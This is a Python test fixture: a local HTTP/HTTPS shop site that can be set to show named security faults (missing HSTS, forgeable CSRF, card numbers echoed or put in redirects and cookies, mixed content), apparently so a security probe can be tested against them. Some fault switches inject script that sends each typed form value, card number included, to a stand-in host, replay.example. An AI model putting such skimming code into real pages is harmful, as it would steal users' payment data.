"""A small site for tests: pages as functions, over HTTP and HTTPS, with the faults a test asks for."""

from __future__ import annotations

import contextlib
import http.server
import ssl
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.cookies import SimpleCookie
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import trustme

HOST = "localhost"
SAFE = [
    ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
    ("Referrer-Policy", "same-origin"),
    ("X-Content-Type-Options", "nosniff"),
]
PAGE = '<!doctype html><title>Pay</title><p>Pay here, {who}</p><form method="post" action="/pay"><input type="hidden" name="csrftoken" value="{token}"><input name="card_number"><button>Pay</button></form>'


@dataclass
class Asked:
    """A request as a page sees it."""

    method: str
    path: str
    query: dict[str, str]
    form: dict[str, str]
    headers: dict[str, str]
    cookies: dict[str, str]
    secure: bool


@dataclass
class Told:
    """What a page answers."""

    status: int = 200
    body: str = ""
    headers: list[tuple[str, str]] = field(default_factory=list)
    mime: str = "text/html; charset=utf-8"


def led(to: str, *headers: tuple[str, str], status: int = 303) -> Told:
    return Told(status, "", [("Location", to), *headers])


Answering = Callable[[Asked], Told]


@dataclass
class Ports:
    secure: int
    plain: int


@contextlib.contextmanager
def serving(
    answer: Answering,
    ca: trustme.CA | None,
    *,
    key: trustme.KeyType = trustme.KeyType.ECDSA,
    tls: Callable[[ssl.SSLContext], object] = id,
) -> Iterator[Ports]:
    """Serve a site; over HTTPS too when there is an authority to certify it. `tls` may change how."""

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        timeout = 120
        wbufsize = -1  # an answer goes out at once

        def _answer(self) -> None:
            parts = urlsplit(self.path)
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace")
            cookies = {name: morsel.value for name, morsel in SimpleCookie(self.headers.get("Cookie", "")).items()}
            told = answer(
                Asked(
                    self.command,
                    parts.path,
                    {name: values[0] for name, values in parse_qs(parts.query).items()},
                    {name: values[0] for name, values in parse_qs(body).items()},
                    {name.lower(): value for name, value in self.headers.items()},
                    cookies,
                    isinstance(self.connection, ssl.SSLSocket),
                )
            )
            data = told.body.encode()
            self.send_response_only(told.status)
            self.send_header("Content-Type", told.mime)
            self.send_header("Content-Length", str(len(data)))
            for name, value in told.headers:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_OPTIONS = do_HEAD = do_TRACE = do_LEAKTIGHT = _answer  # noqa: N815  # as the base class calls them

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def handle_error(self, request: object, client_address: object) -> None:
            """Say nothing: clients that distrust a certificate end the connection."""

    ports = Ports(0, 0)
    with contextlib.ExitStack() as stack:
        for name in ("plain", "secure"):
            if name == "secure" and ca is None:
                continue
            server = Server(("127.0.0.1", 0), Handler)
            if name == "secure" and ca is not None:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                ca.issue_cert(HOST, "127.0.0.1", key_type=key).configure_cert(context)
                tls(context)
                server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
            threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
            stack.callback(server.server_close)
            stack.callback(server.shutdown)
            setattr(ports, name, server.server_address[1])
        yield ports


def trusted(ca: trustme.CA, folder: Path) -> str:
    file = folder / "ca.pem"
    ca.cert_pem.write_to_path(str(file))
    return str(file)


class Shop:
    """A site that is sound, and unsound in the ways named: each fault is one thing a probe has to see."""

    def __init__(self, *faults: str) -> None:
        self.faults = set(faults)
        self.sessions: dict[str, str] = {}
        self.kept = ""
        self._made = 0

    def has(self, fault: str) -> bool:
        return fault in self.faults

    def __call__(self, asked: Asked) -> Told:
        believed = self.has("believes-clients") and asked.headers.get("x-forwarded-proto") == "https"
        if not asked.secure and not believed and not self.has("serves-in-clear"):
            if self.has("leads-api") or (self.has("leads-pages") and asked.method == "GET" and asked.path != "/api"):
                return led(f"https://{HOST}:{self.secure_port}{asked.path}", status=301)
            if self.has("leads-posts"):
                return led(f"https://{HOST}:{self.secure_port}{asked.path}", status=301)
            return Told(403, "Plain HTTP is refused.")
        told = self._page(asked)
        if not (self.has("short-hsts") and told.status >= 400) and not self.has("no-hsts"):
            told.headers += SAFE[:1]
        told.headers += [("Referrer-Policy", "unsafe-url")] if self.has("tells-referrer") else SAFE[1:2]
        told.headers += SAFE[2:]
        return told

    secure_port = 0
    edited = False

    def _page(self, asked: Asked) -> Told:
        key = asked.cookies.get("__Host-session") or asked.cookies.get("session", "")
        who = self.sessions.get(key, "")
        if asked.path == "/":
            return self._front(who)
        if asked.path == "/pay":
            return self._pay(asked, who)
        if asked.path == "/done" and self.has("breaks-later"):
            return Told(500, "Broken.")
        if asked.path == "/done":
            kept = self.kept if self.has("shows-to-all") else ""
            return Told(body=f"<p>Thank you. {kept}</p>")
        if asked.path == "/edit":
            self.edited = True
            return led("/done")
        if asked.path == "/api":
            return Told(body='{"ok": true}', mime="application/json")
        if asked.path in {"/login", "/logout", "/mine"}:
            return self._door(asked, key, who)
        if self.has("debug"):
            return Told(404, "You're seeing this error because you have <code>DEBUG = True</code>")
        return Told(404, "<p>There is no such page.</p>")

    def _front(self, who: str) -> Told:
        page = PAGE.format(who="you", token="right")
        if self.has("get-form"):
            page = page.replace('method="post"', 'method="get"')
        if self.has("mixed"):
            page += '<script src="http://cdn.example.com/x.js"></script>'
        if self.has("clear-form"):
            page += '<form method="post" action="http://example.com/"><input name="x"></form>'
        if self.has("edits"):
            page += '<form method="post" action="/edit"><input name="nickname" value="anna"><input type="hidden" name="csrftoken" value="right"></form>'
        if self.has("stores"):
            page += "<script>document.forms[0].addEventListener('input', e => localStorage.setItem('draft', btoa(e.target.value)))</script>"
        if self.has("tells"):
            page += "<script>document.forms[0].addEventListener('input', e => fetch('https://replay.example/?v=' + e.target.value).catch(() => 0))</script>"
        if self.has("tells-slowly"):
            busy = "setTimeout(() => { for (let begun = Date.now(); Date.now() - begun < 1500;); }, 100)"
            ask = "setTimeout(() => fetch('https://replay.example/?v=' + e.target.value).catch(() => 0), 300)"
            page += f"<script>document.forms[0].addEventListener('input', e => {{ {busy}; {ask} }})</script>"
        if self.has("leads-on"):
            page += "<script>document.forms[0].addEventListener('input', e => location.assign('/done'))</script>"
        if self.has("loads-by-script"):
            page += "<script>new Image().src = 'http://img.example/x.png'</script>"
        page += '<a href="/done">done</a><a href="/api">api</a><a href="/login">log in</a>'
        cookies = []
        if self.has("naked-cookie"):
            cookies.append(("Set-Cookie", "sessionid=abcdefghijklmnopqrstuvwxyz; Path=/"))
        return Told(body=page, headers=cookies)

    def _pay(self, asked: Asked, who: str) -> Told:
        given = asked.form or (asked.query if self.has("takes-get") or self.has("get-form") else {})
        card = given.get("card_number", "")
        if asked.method == "GET" and not given:
            said = "?" + "&".join(f"{name}={value}" for name, value in asked.query.items())
            page = PAGE.format(who="you", token="right")
            return Told(body=page.replace('action="/pay"', f'action="/pay{said}"') if asked.query else page)
        checked = given.get("csrftoken") == "right" and "elsewhere" not in asked.headers.get("origin", "")
        if not checked and not self.has("forgeable") and not (self.has("takes-get") and asked.method == "GET"):
            return Told(403, "Refused.")
        self.kept = card
        if self.has("echoes"):
            return Told(body=f"<p>{card} was paid</p>", headers=[] if self.has("cacheable") else [("Cache-Control", "no-store")])
        if self.has("in-redirect"):
            return led(f"/done?card={card}")
        if self.has("in-cookie"):
            return led("/done", ("Set-Cookie", f"last={card}; Secure; SameSite=Lax; Path=/"))
        if self.has("refuses"):
            return Told(422, "No.")
        return led("/done")

    def _door(self, asked: Asked, key: str, who: str) -> Told:
        form = '<form method="post" action="/login"><input type="hidden" name="csrftoken" value="right"><input name="user"><input type="password" name="password"></form>'
        if self.has("logs-in-elsewhere"):
            form = form.replace('action="/login"', 'action="https://login.example/"')
        flags = "Secure; HttpOnly; SameSite=Lax; Path=/"
        if asked.path == "/mine":
            out = '<form method="post" action="/logout"><input type="hidden" name="csrftoken" value="right"><button>Log out</button></form>'
            return Told(body=f"<p>Hello {who}</p>{out}") if who else led("/login", status=302)
        if asked.path == "/logout":
            if asked.form.get("csrftoken") != "right":
                return Told(403, "Refused.")
            if not self.has("stays-in"):
                self.sessions.pop(key, None)
            return led("/login", ("Set-Cookie", f"__Host-session=; Max-Age=0; {flags}"))
        if asked.method == "GET":
            new = key or self._key()
            return Told(body=form, headers=[("Set-Cookie", f"__Host-session={new}; {flags}")])
        if asked.form.get("csrftoken") != "right" or "elsewhere" in asked.headers.get("origin", ""):
            return Told(403, "Refused.")
        if (asked.form.get("user"), asked.form.get("password")) != ("anna", "right horse"):
            return Told(body=form)
        new = key if self.has("keeps-key") else self._key()
        self.sessions[new] = "anna"
        return led("/mine", ("Set-Cookie", f"__Host-session={new}; {flags}"))

    def _key(self) -> str:
        self._made += 1
        return f"key{self._made:029d}"
